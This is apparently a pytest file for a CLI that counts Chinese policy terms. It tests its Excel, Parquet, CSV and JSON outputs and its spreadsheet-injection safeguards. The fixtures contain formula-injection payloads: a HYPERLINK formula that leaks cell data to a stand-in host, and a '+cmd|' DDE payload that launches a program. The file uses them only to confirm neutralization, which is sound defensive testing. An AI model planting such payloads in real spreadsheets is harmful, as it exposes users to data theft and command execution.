"""The shared output options of every command: .xlsx and .parquet, --raw and spreadsheet safety."""

import io
import json
import os
import pty
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest
import typer
from typer.testing import CliRunner

from conftest import ROOT, SEEDS

from policyterms.cli import app

runner = CliRunner()
VOCAB_YAML = "terms:\n  - {term: 量子科技, category: 未来信息}\n  - {term: 第六代移动通信, aliases: [6G], category: 未来信息}\n  - {term: 未来产业, category: 政策}\n"
SEED_004 = SEEDS / "004_a0e03639a4100763.txt"
# A scraped article whose front matter carries formulas; its body has 量子科技 twice and 6G once.
HOSTILE = (
    "---\n"
    'title: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"点击\\")"\n'
    "source: \"+cmd|'/c calc'!A0\"\n"
    "---\n"
    "量子科技和6G。量子科技。\n"
)


@pytest.fixture
def vocab_file(tmp_path):
    path = tmp_path / "v.yaml"
    path.write_text(VOCAB_YAML, encoding="utf-8")
    return path


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """Two copies of the article, named "-evil.txt" and "@evil.txt", in the working directory."""
    monkeypatch.chdir(tmp_path)
    for name in ("-evil.txt", "@evil.txt"):
        (tmp_path / name).write_text(HOSTILE, encoding="utf-8")
    return tmp_path


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


def test_xlsx_by_suffix_holds_every_table_as_a_sheet(vocab_file, tmp_path):
    out = tmp_path / "counts.xlsx"
    result = invoke("count", SEED_004, "-v", vocab_file, "-o", out, "-q", "--no-split")  # the file whole
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["frequencies", "totals", "cooccurrence", "cooccurrence_totals"]
    assert all(sheet.freeze_panes == "A2" for sheet in book)
    frequencies = book["frequencies"]
    assert [cell.value for cell in frequencies[1]] == ["doc_id", "term", "category", "count", "per_10k_chars"]
    counts = {row[1]: row[3] for row in frequencies.iter_rows(min_row=2, values_only=True)}
    # 004 (tests/test_cli.py): 未来产业 90, 量子科技 2, 6G 2 — as numbers, not text
    assert counts == {"未来产业": 90, "量子科技": 2, "第六代移动通信": 2}
    assert all(isinstance(row[4], float) for row in frequencies.iter_rows(min_row=2, values_only=True))


def test_parquet_by_suffix_holds_frequencies_and_by_directory_every_table(vocab_file, tmp_path):
    result = invoke("count", SEED_004, "-v", vocab_file, "-o", tmp_path / "counts.parquet", "-q", "--no-split")
    assert result.exit_code == 0, result.stderr
    frame = pd.read_parquet(tmp_path / "counts.parquet")
    assert list(frame.columns) == ["doc_id", "term", "category", "count", "per_10k_chars"]
    assert dict(zip(frame.term, frame["count"])) == {"未来产业": 90, "量子科技": 2, "第六代移动通信": 2}
    assert frame["count"].dtype == "int64"
    result = invoke("count", SEED_004, "-v", vocab_file, "--what", "all", "-f", "parquet", "-o", f"{tmp_path}/results/", "-q")
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "results").iterdir()) == [
        "cooccurrence.parquet", "cooccurrence_totals.parquet", "documents.parquet", "frequencies.parquet", "totals.parquet",
    ]
    totals = pd.read_parquet(tmp_path / "results" / "totals.parquet")
    assert totals.set_index("term").loc["未来产业", "count"] == 90


def test_several_tables_into_one_parquet_file_is_a_usage_error(vocab_file, tmp_path):
    result = invoke("count", SEED_004, "-v", vocab_file, "--what", "both", "-o", tmp_path / "x.parquet")
    assert result.exit_code == 2
    assert result.stderr.startswith("policyterms: error: PARQUET holds one table") and len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize("fmt, magic", [("xlsx", b"PK\x03\x04"), ("parquet", b"PAR1")])
def test_binary_formats_go_to_a_redirected_stdout_as_bytes(vocab_file, fmt, magic):
    result = invoke("count", SEED_004, "-v", vocab_file, "-f", fmt, "-q")
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes[:4] == magic
    if fmt == "parquet":
        assert pd.read_parquet(io.BytesIO(result.stdout_bytes))["count"].sum() == 94
    else:
        assert openpyxl.load_workbook(io.BytesIO(result.stdout_bytes)).sheetnames[0] == "frequencies"


def test_binary_format_to_a_terminal_is_a_one_line_usage_error(vocab_file):
    # a real terminal: the child's stdout is a pseudo-terminal
    leader, follower = pty.openpty()
    try:
        process = subprocess.run(
            [sys.executable, "-m", "policyterms.cli", "count", str(SEED_004), "-v", str(vocab_file), "-f", "xlsx"],
            stdout=follower, stderr=subprocess.PIPE, cwd=ROOT, timeout=60,
        )
    finally:
        os.close(follower)
        os.close(leader)
    assert process.returncode == 2
    assert process.stderr.decode() == (
        "policyterms: error: XLSX is a binary format and stdout is a terminal: "
        "write it to a file (-o results.xlsx) or redirect stdout (> results.xlsx)\n"
    )


def test_hostile_metadata_and_file_names_are_neutralized_in_csv(hostile):
    result = invoke("count", "--what", "documents", "-f", "csv", "-q", "--", "-evil.txt", "@evil.txt")
    assert result.exit_code == 0, result.stderr
    frame = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)
    assert frame.doc_id.tolist() == ["'-evil.txt", "'@evil.txt"]
    assert frame.title.tolist() == ['\'=HYPERLINK("http://x.example/?"&A1,"点击")'] * 2
    assert frame.source.tolist() == ["'+cmd|'/c calc'!A0"] * 2
    # numbers untouched: 量子科技 ×2 + 6G = 3 hits; "量子科技和6G。量子科技。" is 13 characters
    assert frame.hits.tolist() == [3, 3] and frame.chars.tolist() == [13, 13]


def test_raw_keeps_the_text_as_it_is(hostile):
    result = invoke("count", "--what", "documents", "-f", "tsv", "-q", "--raw", "--", "-evil.txt")
    assert result.stdout.splitlines()[1] == "-evil.txt\t\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"\tfront matter\t\t\t\t+cmd|'/c calc'!A0\t13\t3"


def test_hostile_cells_are_neutralized_in_xlsx_unless_raw(hostile):
    result = invoke("count", "--what", "all", "-o", "safe.xlsx", "-q", "--", "-evil.txt")
    assert result.exit_code == 0, result.stderr
    documents = openpyxl.load_workbook("safe.xlsx")["documents"]
    assert [cell.value for cell in documents[2]] == [
        "'-evil.txt", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', "front matter", None, None, None, "'+cmd|'/c calc'!A0", 13, 3,
    ]
    assert openpyxl.load_workbook("safe.xlsx")["frequencies"]["A2"].value == "'-evil.txt"
    invoke("count", "--what", "documents", "-o", "raw.xlsx", "-q", "--raw", "--", "-evil.txt")
    row = openpyxl.load_workbook("raw.xlsx")["documents"][2]
    assert [(cell.value, cell.data_type) for cell in row[:2]] == [
        ("-evil.txt", "s"), ('=HYPERLINK("http://x.example/?"&A1,"点击")', "s"),  # text, still not a formula
    ]


def test_json_and_parquet_stay_raw(hostile):
    data = json.loads(invoke("count", "--what", "documents", "-f", "json", "-q", "--", "-evil.txt").stdout)
    assert data["documents"][0]["doc_id"] == "-evil.txt" and data["documents"][0]["title"].startswith("=HYPERLINK")
    invoke("count", "--what", "documents", "-o", "d.parquet", "-q", "--", "-evil.txt")
    assert pd.read_parquet("d.parquet").source.tolist() == ["+cmd|'/c calc'!A0"]


def test_stdin_doc_id_stays_a_dash(vocab_file):
    result = runner.invoke(
        app, ["count", "-", "--stdin", "text", "-v", str(vocab_file), "-f", "csv", "-q"], input="量子科技和6G。\n"
    )
    assert result.exit_code == 0, result.stderr
    # "量子科技和6G。" is 8 characters: 1 hit each is 1250 per 10,000
    assert result.stdout.splitlines()[1:] == ["-,量子科技,未来信息,1,1250.0", "-,第六代移动通信,未来信息,1,1250.0"]


def test_vocab_show_writes_xlsx_too(tmp_path):
    result = invoke("vocab", "show", "-o", tmp_path / "terms.xlsx")
    assert result.exit_code == 0, result.stderr
    sheet = openpyxl.load_workbook(tmp_path / "terms.xlsx")["terms"]
    assert [cell.value for cell in sheet[1]] == ["category", "term", "aliases", "note"]


def commands(group, prefix: str = ""):
    for name, command in group.commands.items():
        if hasattr(command, "commands"):
            yield from commands(command, f"{prefix}{name} ")
        else:
            yield f"{prefix}{name}", command


def test_every_command_that_writes_tables_takes_every_output_option():
    """--raw is declared once (RawOption) and must reach every command with --format."""
    group = typer.main.get_command(app)
    writers = {name: command for name, command in commands(group) if any("--format" in p.opts for p in command.params)}
    assert {"count", "vocab show", "db export", "db info"} <= set(writers)
    for name, command in writers.items():
        options = {opt for param in command.params for opt in param.opts}
        assert {"--format", "--output", "--bom", "--raw"} <= options, name
